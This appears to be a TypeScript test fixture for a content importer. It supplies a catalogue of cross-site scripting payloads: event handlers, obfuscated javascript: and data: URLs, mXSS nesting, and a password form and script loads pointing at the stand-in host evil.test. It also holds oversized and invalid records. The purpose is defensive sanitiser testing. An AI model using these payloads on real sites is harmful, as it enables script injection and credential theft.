/** Hostile content: imported parts must be shown safely, the rest must be reported and left out. */

/** Runs if any of the HTML below is not sanitised: the test looks for the mark. */
export const MARK = 'hostile-mark';
const RUN = `document.documentElement.dataset.hostile='${MARK}'`;

/** Every known attack in one text, which should still be readable. */
export const HOSTILE_HTML = [
  `<p onclick="${RUN}" onmouseover='${RUN}'>A paragraph to read.</p>`,
  `<script>${RUN}</script><script src="https://evil.test/x.js"></script>`,
  `<img src=x onerror="${RUN}"><svg onload="${RUN}"><animate onbegin="${RUN}"/></svg>`,
  `<a href="javascript:${RUN}">One</a><a href="JaVaScRiPt&#58;${RUN}">two</a><a href="data:text/html,<script>${RUN}</script>">three</a><a href="\u0001javascript:${RUN}">four</a>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe><object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<style>body{display:none}</style><link rel="stylesheet" href="https://evil.test/x.css"><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/">`,
  `<form action="https://evil.test/"><input name="password"><button formaction="javascript:${RUN}">Sign in</button></form>`,
  `<p style="position:fixed;inset:0" id="main" class="x">Broken <b>nesting <i>of <p>every</b> kind</i> <table><p>here</table> <li>and <td>there`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]--><![CDATA[<script>${RUN}</script>]]>`,
  '<h2>The end</h2><p>Still here.</p>',
].join('\n');

/** Two megabytes of unclosed elements. */
const HUGE_HTML = `<p>${'<b><i>word <a href="https://a.test/">link</a> '.repeat(45_000)}</p><h2>The end of it</h2>`;

const base = (nid: number, title: string, more: object = {}) => ({
  nid,
  type: 'insight-article',
  title,
  path: `hostile-${nid}`,
  created: '2026-03-04T09:00:00Z',
  changed: '2026-03-04T09:00:00Z',
  field_date_pub: '2026-03-04',
  body: { summary: 'A summary.', value: '<p>Text.</p>' },
  ...more,
});

/** Valid records, each with a description of its oddity. */
export const SHOWN: Record<string, { nid: number } & Record<string, unknown>> = {
  'hostile HTML': base(8001, '<script>alert(1)</script> & "quotes" in a title', {
    body: { summary: '<img src=x onerror=alert(1)>', value: HOSTILE_HTML },
    field_accordion: [{ title: '</h2><script>alert(1)</script>', body: HOSTILE_HTML }],
    field_key_points: ['<script>alert(1)</script>'],
  }),
  'two megabytes': base(8002, 'A long read', { body: { summary: 'Long.', value: HUGE_HTML } }),
  'dates long ago and far ahead': base(8003, 'From the Magna Carta to the year 9999', {
    created: '1066-10-14T00:00:00Z',
    changed: '1969-12-31T23:59:59Z',
    field_date_pub: '1215-06-15',
    field_key_dates: [
      { label: 'Sealed', date: '1215-06-15', kind: 'effective' },
      { label: 'Before the epoch', date: '1969-12-31', kind: 'applicable' },
      { label: 'The end of dates', date: '9999-12-31', kind: 'response' },
    ],
  }),
  'letters of every script, and words without end': base(
    8004,
    `${'Rindfleischetikettierung'.repeat(11)} 支付 دفع \u202Eevil`,
    {
      body: {
        summary: `${'x'.repeat(5000)}`,
        value: `<p>${'y'.repeat(20_000)}</p><p>\uD83D\uDCB6 \u0000?</p>`.replace('\u0000', ''),
      },
    },
  ),
  'files and sources with odd addresses': base(8005, 'Odd addresses', {
    field_file: [{ src: '/files/100%.pdf' }, { src: 'https://a.test/%E0%A4%A' }],
    field_reference_library: [{ field_title: 'Odd', field_plain_url: 'https://a.test/?q=<script>&x="y"' }],
  }),
  'terms in a circle': base(8006, 'Tagged with a circle', {
    field_specialism: ['specialisms/circle-a', 'specialisms/circle-b'],
  }),
};

/** Invalid records, by the location that the report must have. */
export const LEFT_OUT: [pointer: string, record: object][] = [
  ['/field_date_pub', base(8101, 'No such day', { field_date_pub: '2026-02-31' })],
  ['/created', base(8102, 'No such time', { created: 'yesterday' })],
  [
    '/field_key_dates/0/date',
    base(8103, 'A date that is none', {
      field_key_dates: [{ label: 'x', date: '0000-00-00', kind: 'effective' }],
    }),
  ],
  ['/type', base(8104, 'Its plugin is gone', { type: 'podcast' })],
  ['/field_specialism/0', base(8105, 'No such term', { field_specialism: ['specialisms/nowhere'] })],
  [
    '/field_reference_library/0/field_plain_url',
    base(8106, 'A source that runs', {
      field_reference_library: [{ field_title: 'x', field_plain_url: 'javascript:alert(1)' }],
    }),
  ],
  ['/body', base(8107, 'No text', { body: undefined })],
];
